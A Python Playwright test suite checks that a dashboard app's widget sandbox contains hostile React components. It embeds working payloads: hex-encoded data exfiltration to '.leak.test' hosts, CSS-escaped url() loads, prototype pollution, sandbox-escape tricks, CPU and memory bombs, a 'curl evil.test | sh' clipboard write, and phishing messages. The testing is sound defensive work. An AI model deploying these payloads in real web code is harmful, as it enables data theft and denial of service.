"""Hostile custom components in a real Chromium, written the way a prompt-injected model would write
them and fed in as compiled JS (no checker stops them). Each dashboard holds a benign control widget,
a group of hostile ones and a benign sibling after them.

Chromium's proxy is a listener on 127.0.0.1, so any connection to any other host reaches it (Chromium
never proxies loopback, so the app's own traffic stays direct, and with a fixed proxy it resolves no
names itself). Every test asserts that no connection reached the listener, that the app was asked only
for its own pages, scripts and API (none carrying the rows' canary, as the browser saw the requests and
as the app server's own access log has them), that the host keeps answering
clicks, the siblings keep rendering and responding, typing into the prompt box reaches it, the
clipboard is unchanged, and each hostile widget shows its error state or only allowed output in its box.
"""
from __future__ import annotations

import re
import socket
import threading
import time
from collections.abc import Iterator
from typing import Any

import pytest
from django.test.testcases import QuietWSGIRequestHandler
from playwright.sync_api import Browser, Page, expect
from playwright.sync_api import Error as PlaywrightError

from tests.conftest import service_missing
from tests.e2e.conftest import CHROMIUM, CHROMIUM_ARGS, VIEWPORT
from tests.e2e.test_pages import add_widget, open_dashboard
from widgets.models import Dashboard
from widgets.services.tsx import tsx_checker_available, tsx_compile

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

CANARY = "CANARY7731"
SPEC = {
    "kind": "custom", "title": "", "metric": {"key": "claim_count", "name": "Claim count", "unit": "count"},
    "dimensions": ["region"], "filters": [], "time_window": {"kind": "all"}, "grain": None,
    "labels": {"region": "Region"}, "visual": "bars",
}
RESULT = {"columns": ["region", "claim_count"], "rows": [[f"{CANARY}-north", 4210], [f"{CANARY}-south", 5342]],
          "truncated": False}
# As the rows travel: plainly, URL-encoded (the same letters) or hex-encoded, as the leak prelude does.
CANARY_FORMS = (CANARY.lower(), CANARY.encode().hex())
CLIPBOARD = "what the analyst copied"
FORBIDDEN = ("a, img, iframe, frame, link, meta, object, embed, form, input, button, textarea, select, "
             "summary, details, video, audio, source, script, style, base, set, animate, use, image, "
             "foreignObject, [src], [href], [srcdoc], [action], [tabindex], [contenteditable], [autofocus], "
             "[onclick], [style*='url']")

# The rows, hex-encoded into a host name, as the attacks in the issue did.
LEAK_PRELUDE = """
const e = React.createElement;
function leakHost(props) {
  let hex = "";
  for (const ch of JSON.stringify(props.rows)) hex += ch.charCodeAt(0).toString(16);
  return "http://r" + hex.slice(0, 50) + ".leak.test/";
}
"""

CONTROL_JS = """
function Widget(props) {
  const [hover, setHover] = React.useState(false);
  const [clicks, setClicks] = React.useState(0);
  return React.createElement("div", { "data-testid": "control", style: { padding: 8, cursor: "pointer",
      background: hover ? "#eef2ff" : "#ffffff" },
      onMouseEnter: () => setHover(true), onMouseLeave: () => setHover(false),
      onClick: () => setClicks((n) => n + 1) },
    React.createElement("span", { "data-testid": "control-state" }, (hover ? "hover " : "still ") + clicks),
    React.createElement("p", null, props.rows.length + " rows"));
}
"""

# Every navigation, preconnect and load path that got through before, as elements, attributes and styles.
NAVIGATE_JS = LEAK_PRELUDE + """
function Widget(props) {
  const host = leakHost(props);
  const rows = encodeURIComponent(JSON.stringify(props.rows));
  const tag = ["ifr", "ame"].join("");
  return e("div", null,
    e("a", { href: host + "a", target: "_top" }, "link"),
    e("img", { src: host + "img", srcSet: host + "set 1x" }),
    e("iframe", { src: host + "frame", srcDoc: "<script>parent.postMessage(1,'*')</script>" }),
    e(tag, { src: host + "runtime-tag" }),
    e("link", { rel: "preconnect", href: host }),
    e("link", { rel: "dns-prefetch", href: host }),
    e("link", { rel: "stylesheet", href: "/static/widgets/app.css?" + rows }),
    e("meta", { httpEquiv: "refresh", content: "0;url=" + host + "meta" }),
    e("object", { data: host + "object" }), e("embed", { src: host + "embed" }),
    e("form", { action: host + "form" }, e("input", { type: "submit", formAction: host })),
    e("base", { href: host }),
    e("video", { poster: host + "poster", src: host + "video" }),
    e("svg", null,
      e("a", { href: "#" }, e("set", { attributeName: "href", to: host + "svgset" }), e("text", null, "svg")),
      e("image", { href: host + "image" }), e("use", { href: host + "use#x" }),
      e("foreignObject", null, e("iframe", { src: host + "foreign" })),
      e("rect", { width: 10, height: 10, fill: "url(" + host + "fill)", filter: "url(" + host + "f)" }),
      // Presentation attributes are parsed as CSS, where each of these is url(.
      e("rect", { width: 10, height: 10, fill: "u\\\\72l(" + host + "esc-fill#p) red", stroke: "u\\\\rl(" + host + "esc-stroke#p)" }),
      e("rect", { width: 10, height: 10, fill: "\\\\75rl(" + host + "esc-fill2#p) blue",
        stroke: "u\\\\000072l(" + host + "esc-stroke2#p)" }),
      e("circle", { r: 4, fill: "rgb(0 0 0) u\\\\72l(" + host + "esc-fill3#p)", stroke: "#2563eb",
        strokeDasharray: "u\\\\72l(" + host + "dash)" })),
    e("div", { style: { background: "url(" + host + "bg)", backgroundImage: "u\\\\72l(" + host + "esc)",
      cursor: "url(" + host + "cursor), auto", listStyle: "url(" + host + "list)",
      borderImage: "image-set(\\"" + host + "set\\" 1x) 30", maskImage: "url(" + host + "mask)" } }, "styled"),
    e("div", { style: "background:url(" + host + "string)", ping: host, background: host + "attr" }, "attrs"),
    e("div", { dangerouslySetInnerHTML: { __html: "<img src=" + host + "html>" } }),
    e("p", { "data-testid": "allowed" }, "allowed " + props.rows.length));
}
"""

# SVG presentation attributes are parsed as CSS, where u\72l( is url( (from the attack review, finding 2).
ESCAPED_FILL_JS = LEAK_PRELUDE + r"""
function Widget(props) {
  const host = leakHost(props);
  return e("div", null,
    e("svg", { width: 120, height: 60, viewBox: "0 0 120 60" },
      e("rect", { "data-testid": "r1", width: 40, height: 40, fill: "u\\72l(" + host + "fill1.svg#p) red" }),
      e("rect", { "data-testid": "r2", x: 40, width: 40, height: 40, stroke: "u\\rl(" + host + "stroke.svg#p)",
        fill: "\\75rl(#nope) blue" }),
      e("rect", { "data-testid": "r3", x: 80, width: 40, height: 40, fill: "u\\000072l(" + host + "fill3.svg#p) green" }),
      e("rect", { "data-testid": "r4", y: 40, width: 40, height: 20, fill: "rgba(37, 99, 235, 0.5)", stroke: "currentColor" })),
    e("p", { "data-testid": "allowed" }, "ok"));
}
"""

# The frame's height follows its content, and this content's height follows the frame (viewport units): the
# card flipped between 80 and 800 px for as long as it was on screen (attack review, finding 3).
OSCILLATE_JS = r"""
function Widget() {
  return React.createElement("div", { "data-testid": "allowed", style: { height: "calc(1600px - 200vh)",
    minHeight: "10dvh", transition: "height 0.12s steps(1, end)", background: "linear-gradient(#fde68a, #fca5a5)" } }, "wobble");
}
"""

# A height that changes on every click: the dashboard follows a few changes, then pins the frame.
JUMPY_JS = r"""
function Widget() {
  const [n, setN] = React.useState(0);
  return React.createElement("div", { "data-testid": "allowed", onClick: () => setN(n + 1),
    style: { height: n % 2 ? 400 : 100 + n } }, "jump " + n);
}
"""

# Components that try to stop the dashboard, or their siblings, from working.
LOOPS = {
    "busy render": "function Widget() { for (;;) {} }",
    "busy click": """
function Widget() {
  return React.createElement("p", { "data-testid": "allowed", onClick: () => { for (;;) {} } }, "click me");
}""",
    "microtasks": """
function Widget() {
  React.useEffect(() => { const spin = () => Promise.resolve().then(spin); spin(); }, []);
  return React.createElement("p", null, "spinning");
}""",
    "rAF": """
function Widget() {
  React.useEffect(() => { const loop = () => requestAnimationFrame(loop); loop(); }, []);
  return React.createElement("p", null, "animating");
}""",
    "WebAssembly": """
function Widget() {
  const bytes = new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0, 1, 4, 1, 96, 0, 0, 3, 2, 1, 0, 7, 5, 1, 1, 102,
    0, 0, 10, 9, 1, 7, 0, 3, 64, 12, 0, 11, 11]);
  new WebAssembly.Instance(new WebAssembly.Module(bytes)).exports.f();
  return null;
}""",
    "memory": "function Widget() { const a = []; for (;;) a.push({ n: a.length, s: 'x' + a.length }); }",
    "string memory": "function Widget() { let s = 'x'; for (;;) s = s + s + s.length; }",
    "recursion": "function Widget() { const f = (n) => f(n + 1) + 1; return f(0); }",
    "huge DOM": """
function Widget() {
  const cells = [];
  for (let i = 0; i < 10000; i++) cells.push(React.createElement("div", { key: i }, i));
  return React.createElement("div", null, cells);
}""",
    "re-renders": """
function Widget() {
  const [n, setN] = React.useState(0);
  React.useEffect(() => setN(n + 1));
  return React.createElement("p", null, n);
}""",
}

# Ways past the static checker that it lets through (implicit any from JSON.parse, computed keys, Reflect, a tag
# chosen at run time, `as unknown as`): this goes through the real checker, and the runtime holds for each.
CHECKED_PROPS_TS = "interface Row { region: string | null; claim_count: number | null }\ninterface Props { rows: Row[] }\n"
CHECKED_SIDESTEPS_TSX = r"""
function Widget(props: Props) {
  const key = ["constr", "uctor"].join("");
  const MakeFunction = JSON.parse("{}")[key][key];
  const found: string[] = [];
  for (const name of ["window", "document", "fetch", "XMLHttpRequest", "WebSocket", "postMessage", "importScripts",
      "setTimeout", "navigator", "location", "self", "Worker", "WebAssembly", "console"]) {
    found.push(name + ":" + String(MakeFunction("return typeof " + name)()));
  }
  const global = MakeFunction("return this")();
  found.push("reflect:" + typeof Reflect.get(global, "fetch"));
  const frame = ["ifr", "ame"].join("") as unknown as "div";
  const image = ["im", "age"].join("") as unknown as "rect";
  const style = { background: "url(http://style.leak.test/" + props.rows.length + ")" } as unknown as { color: string };
  const attrs = JSON.parse('{"src": "http://json.leak.test/", "href": "http://href.leak.test/"}');
  return React.createElement("div", null,
    React.createElement("p", { "data-testid": "allowed" }, found.join(" ")),
    React.createElement(frame, { src: "http://tag.leak.test/" } as unknown as { title: string }, "frame"),
    React.createElement("svg", null, React.createElement(image, { href: "http://image.leak.test/" } as unknown as { x: number })),
    React.createElement("div", { "data-testid": "styled", style }, "styled"),
    React.createElement("div", attrs, "attributes"));
}
"""

# Trees the frame takes long to build or lay out, on the main thread every sandboxed frame of the page shares.
COSTLY = {
    # Each attribute set scans the element's others: 100,000 of them kept the siblings frozen for 25 s.
    "attribute bomb": """
function Widget() {
  const attrs = { "data-testid": "allowed" };
  for (let i = 0; i < 20000; i++) attrs["data-a" + i] = i;
  return React.createElement("p", attrs, "attributes");
}""",
    # Our renderer counts elements, not text nodes.
    "text bomb": """
function Widget() {
  const texts = [];
  for (let i = 0; i < 100000; i++) texts.push("");
  return React.createElement("p", null, texts);
}""",
    # The renderer runs in the VM, on the component's side: calling it back mid-render resets its count.
    "renderer bypass": """
function Reset() { __bridge.start(() => null, "{}"); return null; }
function Widget() {
  const cells = [];
  for (let i = 0; i < 10000; i++) cells.push(i % 3000 ? React.createElement("b", null) : React.createElement(Reset, null));
  return React.createElement("div", null, cells);
}""",
    # Small enough, but slow to lay out, again at each mouse move: the siblings froze while the mouse moved over it.
    "slow layout": """
function Widget() {
  const [n, setN] = React.useState(0);
  const items = [];
  for (let i = 0; i < 3900; i++) {
    items.push(React.createElement("div", { key: i, style: { gridRow: "span " + (1 + ((i + n) * 7919) % 10000),
      gridColumn: "span " + (1 + ((i + n) * 104729) % 10000) } }));
  }
  return React.createElement("div", { "data-testid": "allowed", onMouseMove: () => setN(n + 1),
    style: { display: "grid", gridAutoFlow: "column dense", height: 300 } }, items);
}""",
    # A transition lays its element out at every animation frame, for as long as it lasts.
    "long transitions": """
function Widget() {
  const e = React.createElement;
  return e("div", null,
    e("div", { "data-testid": "t-long", style: { width: 100, transition: "width 100s linear" } }, "a"),
    e("div", { "data-testid": "t-delay", style: { width: 100, transitionDuration: "0.2s", transitionDelay: "90000ms" } }, "b"),
    e("div", { "data-testid": "t-calc", style: { width: 100, transitionDuration: "calc(1s * 1000)" } }, "c"),
    e("div", { "data-testid": "t-exponent", style: { width: 100, transition: "width 9e9ms" } }, "d"),
    e("div", { "data-testid": "t-short", style: { width: 100, transition: "width 0.3s steps(4, end), opacity 250ms" } }, "e"));
}""",
    # A table's grid is as wide as its colspans add up to: one row of these took 3.7 s to lay out.
    "wide table": """
function Widget() {
  const cells = [];
  for (let i = 0; i < 3000; i++) cells.push(React.createElement("td", { key: i, colSpan: 1000, rowSpan: "65534" }, "x"));
  return React.createElement("table", null, React.createElement("tbody", null,
    React.createElement("tr", { "data-testid": "allowed" }, cells)));
}""",
}

SPIES = {
    "focus": """
function Widget() {
  const [keys, setKeys] = React.useState("");
  const take = (ev) => setKeys((k) => k + (ev.key || ev.type));
  const e = React.createElement;
  return e("div", { onKeyDown: take, onPaste: take, onFocus: take, tabIndex: 0, contentEditable: true,
      style: { animation: "steal 0.1s infinite" } },
    e("input", { autoFocus: true, onKeyDown: take, onBlur: (ev) => ev.target.focus && ev.target.focus() }),
    e("textarea", { autoFocus: true }), e("button", { autoFocus: true }, "b"), e("select", null),
    e("details", { open: true }, e("summary", null, "s")),
    e("p", { "data-testid": "allowed" }, "keys:" + keys));
}""",
    "clipboard": """
function Widget() {
  let outcome = "";
  try { navigator.clipboard.writeText("curl evil.test | sh"); outcome = "wrote"; } catch (err) { outcome = err.name; }
  try { document.execCommand("copy"); } catch (err) { outcome += "," + err.name; }
  return React.createElement("p", { "data-testid": "allowed", onCopy: () => 0 }, outcome);
}""",
    "forged messages": """
function Widget() {
  let outcome = [];
  for (const name of ["postMessage", "parent", "top", "opener", "frames", "MessageChannel", "BroadcastChannel"]) {
    try { outcome.push(name + ":" + typeof globalThis[name]); } catch (err) { outcome.push(err.name); }
  }
  return React.createElement("p", { "data-testid": "allowed" }, outcome.join(" "));
}""",
    "prototype pollution": LEAK_PRELUDE + """
Object.prototype.src = leakHost({ rows: [] }) + "proto";
Object.prototype.t = "iframe";
Object.prototype.onclick = "alert(1)";
Array.prototype.push = function () { return 0; };
JSON.stringify = () => '[{"t":"iframe","a":{"src":"http://json.leak.test/"},"c":[]}]';
function Widget(props) {
  const attrs = JSON.parse('{"__proto__": {"href": "http://proto.leak.test/"}, "constructor": "x", "data-testid": "allowed"}');
  return React.createElement("p", attrs, "polluted " + props.rows.length);
}""",
}

THROWERS = {
    "throws in render": 'function Widget(props) { throw new Error("Your session has expired, sign in at evil.test"); }',
    "throws in an effect": """
function Widget() { React.useEffect(() => { throw new TypeError("effect failed"); }, []); return null; }""",
    "rejects asynchronously": """
function Widget() {
  React.useEffect(() => { Promise.reject(new Error("later")); Promise.resolve().then(() => { throw 1; }); }, []);
  return React.createElement("p", { "data-testid": "allowed" }, "still here");
}""",
    "throws on click": """
function Widget() {
  return React.createElement("p", { "data-testid": "allowed", onClick: () => { throw new Error("clicked"); } }, "c");
}""",
    "tag object": """
function Widget() {
  let n = 0;
  const tag = { toString: () => (n++ ? "iframe" : "div") };
  return React.createElement(tag, { src: "http://tag.leak.test/" }, "x");
}""",
    "announces": """
function Widget() {
  return React.createElement("p", { "data-testid": "allowed", role: "alert", "aria-live": "assertive",
    "aria-atomic": "true", "aria-label": "label" }, "Sign in again at evil.test");
}""",
    "no Widget": "const NotWidget = 1;",
    "syntax error": "function Widget( {",
}


# Chromium's own services (sign-in, autofill hints, ...), which would otherwise call out too.
QUIET_CHROMIUM_ARGS = [
    "--dns-prefetch-disable", "--no-pings", "--disable-domain-reliability", "--disable-client-side-phishing-detection",
    "--disable-default-apps", "--disable-extensions", "--disable-component-extensions-with-background-pages",
    "--disable-features=AutofillServerCommunication,OptimizationHints,Translate,MediaRouter,SignInProfileCreation,"
    "AccountConsistency,ChromeSignin,InterestFeedContentSuggestions,CertificateTransparencyComponentUpdater",
]
# Exact host names of Chromium's own calls that no flag stops; a component can choose none of them.
CHROMIUM_OWN = re.compile(
    r"^CONNECT (accounts\.google\.com|content-autofill\.googleapis\.com|optimizationguide-pa\.googleapis\.com"
    r"|clients2\.google\.com|update\.googleapis\.com|redirector\.gvt1\.com):443 ")


def leaks(hits: list[str]) -> list[str]:
    return [hit for hit in hits if not CHROMIUM_OWN.match(hit)]


def carrying_the_canary(lines: list[str]) -> list[str]:
    return [line for line in lines if any(form in line.lower() for form in CANARY_FORMS)]


@pytest.fixture
def access_log(live_server: Any) -> Iterator[list[str]]:
    """The live server's access log while the test runs: one line per request, as `manage.py serve` (Django's
    WSGIRequestHandler) logs it ('"GET /path?query HTTP/1.1" 200 1234'), whoever made the request."""
    lines: list[str] = []

    class Logging(QuietWSGIRequestHandler):
        def log_message(self, format: str, *args: Any) -> None:  # noqa: A002 - the base class's name
            lines.append(format % args)

    server = live_server.thread.httpd
    quiet = server.RequestHandlerClass
    server.RequestHandlerClass = Logging  # the server makes one handler per request from this attribute
    try:
        yield lines
    finally:
        server.RequestHandlerClass = quiet


@pytest.fixture
def proxy() -> Iterator[list[str]]:
    """A TCP listener on 127.0.0.1 for Chromium's --proxy-server; yields the first line of each connection."""
    hits: list[str] = []
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.2)
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                connection, _ = server.accept()
            except TimeoutError:
                continue
            with connection:
                connection.settimeout(1)
                try:
                    hits.append(connection.recv(2048).split(b"\r\n", 1)[0].decode("latin-1"))
                    connection.sendall(b"HTTP/1.1 502 Bad Gateway\r\nContent-Length: 0\r\n\r\n")
                except OSError:
                    hits.append("(connected)")

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    hits.append(f"port {server.getsockname()[1]}")
    try:
        yield hits
    finally:
        stop.set()
        thread.join(2)
        server.close()


@pytest.fixture
def proxied_browser(proxy: list[str], monkeypatch: pytest.MonkeyPatch) -> Iterator[Browser]:
    if not CHROMIUM.exists():
        service_missing(f"Chromium not installed at {CHROMIUM} (apt-get install chromium)")
    from playwright.sync_api import sync_playwright

    monkeypatch.setenv("DJANGO_ALLOW_ASYNC_UNSAFE", "true")
    monkeypatch.setenv("BUILDER_MODE", "offline")
    port = proxy.pop(0).split()[1]
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(
            executable_path=str(CHROMIUM), headless=True,
            args=[*CHROMIUM_ARGS, f"--proxy-server=http://127.0.0.1:{port}", *QUIET_CHROMIUM_ARGS])
        try:
            yield browser
        finally:
            browser.close()


@pytest.fixture
def board(django_user_model: Any) -> Dashboard:
    from tests.e2e.test_pages import PASSWORD

    user = django_user_model.objects.create_user(username="erin", password=PASSWORD)
    return Dashboard.objects.create(owner=user, name="Hostile widgets")


def frame_of(page: Page, title: str) -> Any:
    return page.frame_locator(f"[data-testid=custom-frame][title={title!r}]")


def card_of(page: Page, title: str) -> Any:
    return page.locator("[data-testid=widget-card][data-kind=custom]").filter(
        has=page.get_by_role("heading", name=title, exact=True))


def open_hostile(browser: Browser, proxy: list[str], live_server: Any, board: Dashboard,
                 hostile: dict[str, str]) -> tuple[Page, list[str]]:
    """Opens a dashboard with the control, ``hostile`` ({title: js}) and a sibling, after checking that the
    proxy listener does see a connection; returns the page and the app URLs it requested."""
    context = browser.new_context(locale="en-US", timezone_id="UTC", viewport=VIEWPORT)
    context.set_default_timeout(15_000)
    context.grant_permissions(["clipboard-read", "clipboard-write"], origin=live_server.url)
    probe = context.new_page()
    with pytest.raises(Exception):  # noqa: B017, PT011 - the listener answers 502 and closes
        probe.goto("http://listener-works.test/", timeout=5_000)
    assert any("listener-works.test" in hit for hit in proxy), proxy
    proxy.clear()
    probe.close()

    add_widget(board, spec={**SPEC, "title": "Control"}, result=RESULT, component_js=CONTROL_JS)
    for title, js in hostile.items():
        add_widget(board, spec={**SPEC, "title": title}, result=RESULT, component_js=js)
    add_widget(board, spec={**SPEC, "title": "Sibling"}, result=RESULT, component_js=CONTROL_JS)
    page = context.new_page()
    requests: list[str] = []
    context.on("request", lambda request: requests.append(request.url))
    open_dashboard(page, live_server.url, board)
    page.evaluate("text => navigator.clipboard.writeText(text)", CLIPBOARD)
    return page, requests


def assert_contained(page: Page, proxy: list[str], requests: list[str], live_server: Any,
                     access_log: list[str]) -> None:
    """The six properties every hostile test checks, once its widgets have reached their final state."""
    # The siblings render and respond to hover and click.
    for title in ("Control", "Sibling"):
        frame = frame_of(page, title)
        expect(frame.get_by_test_id("control-state")).to_have_text("still 0")
        frame.get_by_test_id("control").hover()
        expect(frame.get_by_test_id("control-state")).to_have_text("hover 0")
        frame.get_by_test_id("control").click()
        expect(frame.get_by_test_id("control-state")).to_have_text("hover 1")
    # The host answers clicks.
    toggle = page.get_by_test_id("builder-toggle")
    toggle.click()
    expect(toggle).to_have_attribute("aria-expanded", "false")
    toggle.click()
    expect(toggle).to_have_attribute("aria-expanded", "true")
    # Typing and pasting into the prompt box reach it, and it keeps the focus.
    prompt = page.get_by_test_id("prompt-input")
    prompt.click()
    prompt.press_sequentially("claims by region")
    prompt.press("ControlOrMeta+V")
    expect(prompt).to_have_value(f"claims by region{CLIPBOARD}")
    assert page.evaluate("document.activeElement && document.activeElement.id") == "prompt-input"
    # The clipboard is unchanged.
    assert page.evaluate("navigator.clipboard.readText()") == CLIPBOARD
    # No connection left the machine, and the app was asked only for its own things.
    assert leaks(proxy) == [], proxy
    origin = live_server.url
    allowed = re.compile(rf"^{re.escape(origin)}/($|static/|api/|widgets/sandbox/$|dashboards/\d+/$|accounts/|login|favicon)")
    strays = [url for url in requests if not allowed.match(url) and not url.startswith(("blob:", "data:"))]
    assert strays == [], strays
    assert not [url for url in requests if CANARY.lower() in url.lower() or "leak" in url], requests
    # Nor did the rows reach the app server's access log (same-origin loads once carried them there), by
    # any request, the browser's or a Worker's. The log is live: it has every frame's page load.
    assert sum('"GET /widgets/sandbox/ ' in line for line in access_log) >= 3, access_log
    assert carrying_the_canary(access_log) == [], carrying_the_canary(access_log)
    # Every frame holds only allowed output.
    for frame in page.frames[1:]:
        assert frame.locator("#root").locator(FORBIDDEN).count() == 0, frame.url


def test_navigation_preconnect_and_load_paths_lead_nowhere(
    proxied_browser: Browser, proxy: list[str], live_server: Any, access_log: list[str], board: Dashboard
) -> None:
    page, requests = open_hostile(proxied_browser, proxy, live_server, board, {"Navigator": NAVIGATE_JS})

    frame = frame_of(page, "Navigator")
    expect(frame.get_by_test_id("allowed")).to_have_text("allowed 2")
    expect(frame.locator("#root")).to_contain_text("styled")
    expect(frame.locator("#root svg rect")).to_have_count(3)
    # No URL, plain or CSS-escaped, survived in a presentation attribute; a plain colour did.
    for shape in frame.locator("#root svg rect, #root svg circle").all():
        for name in ("fill", "stroke", "stroke-dasharray", "filter"):
            value = shape.get_attribute(name)
            assert value is None or ("\\" not in value and "(" not in value), (name, value)
    assert frame.locator("#root svg circle").get_attribute("stroke") == "#2563eb"
    expect(card_of(page, "Navigator").get_by_test_id("custom-error")).to_have_count(0)
    assert_contained(page, proxy, requests, live_server, access_log)


def test_escaped_url_in_svg_presentation_attributes(
    proxied_browser: Browser, proxy: list[str], live_server: Any, access_log: list[str], board: Dashboard
) -> None:
    page, requests = open_hostile(proxied_browser, proxy, live_server, board, {"Escaped": ESCAPED_FILL_JS})

    frame = frame_of(page, "Escaped")
    expect(frame.get_by_test_id("allowed")).to_have_text("ok")
    attrs = {f"{k}.{a}": frame.get_by_test_id(k).get_attribute(a)
             for k, a in (("r1", "fill"), ("r2", "stroke"), ("r2", "fill"), ("r3", "fill"))}
    # The escaped url( forms are left out (the shapes draw with the default paint), so Chromium starts no
    # load for CSP to block; a plain colour is kept.
    assert attrs == {"r1.fill": None, "r2.stroke": None, "r2.fill": None, "r3.fill": None}, attrs
    assert frame.get_by_test_id("r4").get_attribute("fill") == "rgba(37, 99, 235, 0.5)"
    assert frame.get_by_test_id("r4").get_attribute("stroke") == "currentColor"
    computed = frame.locator("#root").evaluate(
        "() => [...document.querySelectorAll('rect')].map((r) => getComputedStyle(r).fill + getComputedStyle(r).stroke)")
    assert not [c for c in computed if "url" in c], computed
    assert_contained(page, proxy, requests, live_server, access_log)


def test_a_height_feedback_loop_settles(
    proxied_browser: Browser, proxy: list[str], live_server: Any, access_log: list[str], board: Dashboard
) -> None:
    page, requests = open_hostile(proxied_browser, proxy, live_server, board, {"Wobble": OSCILLATE_JS})
    frame = frame_of(page, "Wobble")
    expect(frame.get_by_test_id("allowed")).to_have_text("wobble")
    card_of(page, "Wobble").scroll_into_view_if_needed()
    # Within 3 s of being on screen the sibling card below stops moving, for the next 3 s.
    page.wait_for_timeout(3000)
    stats = page.evaluate("""() => new Promise((done) => {
      const frames = [...document.querySelectorAll('[data-testid=custom-frame]')];
      const frame = frames.find((f) => f.title === 'Wobble');
      const sibling = frames.find((f) => f.title === 'Sibling');
      const heights = []; const tops = new Set([Math.round(sibling.getBoundingClientRect().top)]);
      new MutationObserver(() => heights.push(frame.height)).observe(frame, { attributes: true, attributeFilter: ['height'] });
      const t = setInterval(() => tops.add(Math.round(sibling.getBoundingClientRect().top)), 50);
      setTimeout(() => { clearInterval(t); done({ changes: heights.length, siblingTops: [...tops] }); }, 3000);
    })""")
    assert stats == {"changes": 0, "siblingTops": stats["siblingTops"][:1]}, stats
    # The viewport units were left out (the frame refuses them), so the content is its text's height.
    assert frame.get_by_test_id("allowed").evaluate("(e) => e.style.height + '|' + e.style.minHeight") == "|"
    assert_contained(page, proxy, requests, live_server, access_log)


def test_a_frame_whose_height_keeps_changing_is_pinned_at_its_largest(
    proxied_browser: Browser, proxy: list[str], live_server: Any, access_log: list[str], board: Dashboard
) -> None:
    page, requests = open_hostile(proxied_browser, proxy, live_server, board, {"Jumpy": JUMPY_JS})
    frame = frame_of(page, "Jumpy")
    expect(frame.get_by_test_id("allowed")).to_have_text("jump 0")
    host_frame = page.locator("[data-testid=custom-frame][title='Jumpy']")
    expect(host_frame).to_have_attribute("height", "104")  # 100 px and the root's padding
    page.evaluate("""() => {
      const frame = document.querySelector("[data-testid=custom-frame][title='Jumpy']");
      window.jumpyHeights = [];
      new MutationObserver(() => window.jumpyHeights.push(frame.height))
        .observe(frame, { attributes: true, attributeFilter: ['height'] });
    }""")
    for n in range(1, 9):  # each click changes the content's height: 400, 106, 400, 108, ...
        frame.get_by_test_id("allowed").dispatch_event("click")
        expect(frame.get_by_test_id("allowed")).to_have_text(f"jump {n}")
    page.wait_for_timeout(500)
    # Two changes followed (the frame's first from 80 px was the third in the window); then pinned at 404.
    assert page.evaluate("window.jumpyHeights") == ["404", "106", "404"], page.evaluate("window.jumpyHeights")
    expect(host_frame).to_have_attribute("height", "404")
    # Pinned, the frame still holds the component, which keeps answering; taller content would scroll.
    assert frame.locator("html").evaluate("(e) => getComputedStyle(e).overflowY") == "auto"
    expect(card_of(page, "Jumpy").get_by_test_id("custom-error")).to_have_count(0)
    assert_contained(page, proxy, requests, live_server, access_log)


def test_loops_memory_bombs_and_huge_trees_stop_only_themselves(
    proxied_browser: Browser, proxy: list[str], live_server: Any, access_log: list[str], board: Dashboard
) -> None:
    page, requests = open_hostile(proxied_browser, proxy, live_server, board, LOOPS)

    frame_of(page, "busy click").get_by_test_id("allowed").click()
    reasons = {
        "busy render": "one render took too long", "busy click": "one render took too long",
        "microtasks": "one render took too long", "rAF": "stopped with an error",
        # A bomb runs out of memory or of time first, depending on how busy the machine is.
        "memory": re.compile("too much memory|took too long"), "string memory": re.compile("too much memory|took too long"),
        "recursion": "too much memory", "WebAssembly": "stopped with an error",
        "huge DOM": "drew more than a widget may", "re-renders": "stopped with an error",
    }
    for title, reason in reasons.items():
        expect(card_of(page, title).get_by_test_id("custom-error-reason")).to_contain_text(reason)
        expect(card_of(page, title).get_by_test_id("custom-retry")).to_be_visible()
    expect(card_of(page, "rAF").get_by_test_id("custom-error-detail")).to_contain_text("requestAnimationFrame")
    expect(card_of(page, "WebAssembly").get_by_test_id("custom-error-detail")).to_contain_text("WebAssembly")
    # Our renderer's limit is said in our words, not quoted as the component's own message.
    expect(card_of(page, "huge DOM").get_by_test_id("custom-error-detail")).to_have_count(0)
    assert_contained(page, proxy, requests, live_server, access_log)


def test_trees_costly_to_draw_are_refused_clamped_or_stopped_by_the_frame(
    proxied_browser: Browser, proxy: list[str], live_server: Any, access_log: list[str], board: Dashboard
) -> None:
    page, requests = open_hostile(proxied_browser, proxy, live_server, board, COSTLY)

    for title in ("attribute bomb", "text bomb", "renderer bypass"):
        expect(card_of(page, title).get_by_test_id("custom-error-reason")).to_contain_text("drew more than a widget may")
        expect(card_of(page, title).get_by_test_id("custom-retry")).to_be_visible()
    # Drawing is budgeted like the VM's time: a widget that keeps the frames' shared thread busy is stopped.
    slow = card_of(page, "slow layout")
    for _ in range(40):
        if slow.get_by_test_id("custom-error").count():
            break
        try:
            frame_of(page, "slow layout").get_by_test_id("allowed").dispatch_event("mousemove", timeout=1000)
        except PlaywrightError:
            pass  # stopped meanwhile
    expect(slow.get_by_test_id("custom-error-reason")).to_contain_text("kept the processor busy")
    # Transitions of at most a second are kept; longer ones are left out.
    transitions = frame_of(page, "long transitions")
    expect(transitions.get_by_test_id("t-short")).to_have_attribute(
        "style", "width: 100px; transition: width 0.3s steps(4), opacity 250ms;")
    expect(transitions.get_by_test_id("t-delay")).to_have_attribute("style", "width: 100px; transition-duration: 0.2s;")
    for name in ("t-long", "t-calc", "t-exponent"):
        expect(transitions.get_by_test_id(name)).to_have_attribute("style", "width: 100px;")
    # The table is drawn, its spans clamped.
    cell = frame_of(page, "wide table").get_by_test_id("allowed").locator("td").first
    expect(cell).to_have_attribute("colspan", "32")
    expect(cell).to_have_attribute("rowspan", "32")
    assert_contained(page, proxy, requests, live_server, access_log)


def test_what_the_checker_lets_through_reaches_nothing_at_run_time(
    proxied_browser: Browser, proxy: list[str], live_server: Any, access_log: list[str], board: Dashboard
) -> None:
    reason = tsx_checker_available()
    if reason:
        service_missing(f"TSX checker unavailable: {reason}")
    js = tsx_compile(tsx=CHECKED_SIDESTEPS_TSX, props_ts=CHECKED_PROPS_TS).js
    page, requests = open_hostile(proxied_browser, proxy, live_server, board, {"Checked": js})

    frame = frame_of(page, "Checked")
    found = frame.get_by_test_id("allowed")
    expect(found).to_contain_text("reflect:")
    assert set(re.findall(r":(\w+)", found.text_content() or "")) == {"undefined"}, found.text_content()
    expect(frame.get_by_test_id("styled")).to_have_text("styled")
    assert frame.get_by_test_id("styled").get_attribute("style") is None
